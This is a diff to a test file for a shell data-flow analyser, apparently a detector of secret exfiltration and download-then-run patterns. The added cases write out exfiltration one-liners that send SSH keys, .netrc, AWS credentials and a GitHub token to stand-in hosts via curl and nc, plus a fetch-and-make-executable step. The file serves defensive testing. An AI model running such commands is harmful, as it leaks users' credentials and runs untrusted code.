@@ -66,6 +66,20 @@ CASES: list[tuple[str, set[FlowRow]]] = [
        ((1, "assigned to T"), (2, "assigned to H")), "")}),
     ('curl -H "Authorization: Bearer $OPENAI_API_KEY" https://api.openai.com/v1/models',
      {("env.read(OPENAI_API_KEY)", 1, "net.connect(api.openai.com)", 1, (), "")}),
+    # what read assigns carries what it reads; here-documents and $(< file) are values too
+    ('while read -r l; do curl -d "$l" https://x.example.net; done < ~/.ssh/id_rsa',
+     {("fs.read(~/.ssh/id_rsa)", 1, "net.connect(x.example.net)", 1, ((1, "read into l"),), "")}),
+    ('cat ~/.netrc |\n  while IFS= read -r line; do\n    echo "$line" | nc c2.example.org 80\n  done',
+     {("fs.read(~/.netrc)", 1, "net.connect(c2.example.org:80)", 3,
+       ((2, "piped into while"), (2, "read into line"), (3, "piped into nc")), "")}),
+    ('read -r k < ~/.aws/credentials\ncurl -d "$k" https://x.example.net',
+     {("fs.read(~/.aws/credentials)", 1, "net.connect(x.example.net)", 2,
+       ((1, "read into k"),), "")}),
+    ("curl -d @- https://x.example.net <<EOF\n$GITHUB_TOKEN\nEOF",
+     {("env.read(GITHUB_TOKEN)", 2, "net.connect(x.example.net)", 1, (), "")}),
+    ('curl -d "$(< ~/.ssh/id_rsa)" https://x.example.net',
+     {("fs.read(~/.ssh/id_rsa)", 1, "net.connect(x.example.net)", 1, (), "")}),
+    ('read -r -p "Name: " name\ncurl -s "https://api.example.com/users/$name"', set()),
     # redirects: both halves of a file-mediated flow are stated
     ("printenv > /tmp/e.txt\ncurl -T /tmp/e.txt https://x.example.net",
      {("env.read(*)", 1, "fs.write(/tmp/e.txt)", 1, (), ""),
@@ -119,6 +133,7 @@ def test_download_then_run() -> None:
     "curl -s https://dl.example.org/setup.sh > /tmp/setup.sh\nsource /tmp/setup.sh",
     "wget -q -O /tmp/setup.sh https://dl.example.org/setup.sh && sudo sh /tmp/setup.sh",
     "curl -o /tmp/setup.sh https://dl.example.org/setup.sh\npython3 /tmp/setup.sh",
+    "curl -fsSLO https://dl.example.org/setup.sh\nchmod u+x setup.sh",
 ])
 def test_fetched_files_that_run(text: str) -> None:
     (flow,) = [f for f in analyse_shell(text, FILES, "x.sh").flows
